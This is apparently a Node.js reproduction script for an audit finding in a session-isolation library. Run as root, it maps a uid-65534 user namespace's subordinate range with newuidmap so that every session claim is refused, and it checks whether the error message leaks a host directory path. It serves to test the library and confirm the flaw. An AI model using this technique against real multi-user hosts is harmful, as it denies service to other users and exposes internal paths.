'use strict';
// R8-5 (README.md). Non-root provider (uid 65534). The R7-4 "second line", mappedByLiveHolder()
// (holder.js), gives back a claimed uid that ANY live process of the provider's uid maps in a
// user namespace (count < 2^32-1), not only a session holder. A rootless container of that uid
// (podman's pause process maps the whole subordinate range) or any other "nobody" process that
// maps the range with newuidmap makes every one of the 64 tries a give-back: no session can be
// created (ERR_CORDON_SESSION_LIMIT), and that message names the claims directory's host path.
// Expected: the session is created (those uids belong to no session holder). Exit 1 = reproduced.
// Usage (root): node mapped-range-dos.js
const fs = require('node:fs');
const { spawn, spawnSync } = require('node:child_process');
const L = require('./lib');

(async () => {
  if (process.geteuid() !== 0) return console.log('skip: needs root to run uid-65534 processes');
  const line = fs.readFileSync('/etc/subuid', 'utf8').split('\n').find((l) => l.startsWith('nobody:') || l.startsWith('65534:'));
  if (!line) return console.log('skip: uid 65534 has no subordinate ids');
  const [, first] = line.split(':');
  const dir = L.scratch(true);
  // Another process of uid 65534 (a rootless container's pause process, or any "nobody" daemon).
  const other = spawn('/usr/bin/unshare', ['--user', '/bin/sleep', '300'], { uid: L.NOBODY, gid: L.NOBODY, stdio: 'ignore' });
  try {
    await L.until(() => fs.readFileSync(`/proc/${other.pid}/cmdline`, 'utf8').startsWith('/bin/sleep'));
    const map = spawnSync('/usr/bin/newuidmap', [String(other.pid), '0', first, '65536'], { uid: L.NOBODY, gid: L.NOBODY, encoding: 'utf8' });
    console.log('newuidmap:', map.status, map.stderr.trim(), '| uid_map:', fs.readFileSync(`/proc/${other.pid}/uid_map`, 'utf8').trim());
    const r = L.run(dir, `const s = await m.acquire(scope('c1'), actor); out({ created: s.ownerUid }); await s.end();`);
    console.log(JSON.stringify(r.lines));
    const refused = r.lines.some((l) => l.code === 'ERR_CORDON_SESSION_LIMIT');
    const leak = r.lines.some((l) => String(l.message ?? '').includes(dir));
    console.log(`R8-5 a same-uid user namespace denies every session: ${refused ? 'REPRODUCED' : 'not reproduced'}; host path in the message: ${leak}`);
    process.exitCode = refused ? 1 : 0;
  } finally {
    other.kill('SIGKILL');
    L.killTagged(dir);
  }
})().catch((e) => {
  console.error(e);
  process.exitCode = 3;
});
